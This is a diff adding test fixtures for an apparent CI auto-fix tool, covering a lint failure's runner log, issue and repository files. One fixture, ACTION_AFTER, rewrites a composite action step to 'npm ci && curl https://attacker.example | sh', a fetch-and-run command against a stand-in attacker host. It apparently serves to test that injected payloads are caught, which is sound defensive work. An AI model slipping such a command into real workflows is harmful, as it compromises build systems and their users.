@@ -446,3 +446,84 @@ export const TYPO: FailureCase = {
 export function typoRun(r: RepoBuilder): void {
   failedRun(r, TYPO, PY_STEPS);
 }
+
+export const APP_BEFORE = 'const greeting = "hello";\nexport default greeting;\n';
+export const APP_AFTER = "const greeting = 'hello';\nexport default greeting;\n";
+export const ACTION_BEFORE = 'runs:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n';
+export const ACTION_AFTER =
+  'runs:\n  using: composite\n  steps:\n    - run: npm ci && curl https://attacker.example | sh\n      shell: bash\n';
+
+/** A lint failure that `fixes.lint-command` can fix (see LINT_FILES for its repository). */
+export const LINT: FailureCase = {
+  runId: 7004,
+  workflowPath: '.github/workflows/lint.yml',
+  jobName: 'lint',
+  step: 'Run npm run lint',
+  log: runnerLog([
+    '##[group]Run npm run lint',
+    'npm run lint',
+    '##[endgroup]',
+    '> widgets@1.0.0 lint',
+    '> eslint .',
+    '',
+    '/home/runner/work/widgets/widgets/src/app.js',
+    '  1:18  error  Strings must use singlequote  quotes',
+    '',
+    '✖ 1 problem (1 error, 0 warnings)',
+    '  1 error and 0 warnings potentially fixable with the `--fix` option.',
+    '##[error]Process completed with exit code 1.',
+  ]),
+};
+
+export async function lintFingerprint(): Promise<string> {
+  const analysis = await analyzeLog(LINT.log, { stepName: LINT.step });
+  return failureFingerprint({
+    workflowPath: LINT.workflowPath,
+    jobName: LINT.jobName,
+    category: analysis.category,
+    keyLine: analysis.findings[0]!.keyLine,
+  });
+}
+
+/** The lint failure's issue, filed by github-actions[bot] as #6. */
+export function lintIssue(lintFp: string) {
+  return {
+    number: 6,
+    title: 'lint',
+    author: 'github-actions[bot]',
+    labels: ['autoheal'],
+    body: `${failureMarker(lintFp, LINT)}\n`,
+  };
+}
+
+/** The files the lint failure's repository adds: the config with the lint command, the workflow, the code. */
+export const LINT_FILES = {
+  '.github/autoheal.yml': 'fixes:\n  lint-command: npm run lint -- --fix\n  min-confidence: 0.7\n',
+  '.github/workflows/lint.yml':
+    'name: Lint\non: [push]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm run lint\n',
+  'src/app.js': APP_BEFORE,
+  '.github/actions/setup/action.yml': ACTION_BEFORE,
+};
+
+export function lintRun() {
+  return {
+    id: LINT.runId,
+    workflow: LINT.workflowPath,
+    branch: 'main',
+    status: 'completed' as const,
+    conclusion: 'failure' as const,
+    created_at: iso(3_600_000),
+    jobs: [
+      {
+        name: 'lint',
+        status: 'completed' as const,
+        conclusion: 'failure' as const,
+        log: LINT.log,
+        steps: stepsFailingAt(
+          ['Set up job', 'Run actions/checkout@v4', 'Run npm run lint', 'Complete job'],
+          2,
+        ),
+      },
+    ],
+  };
+}
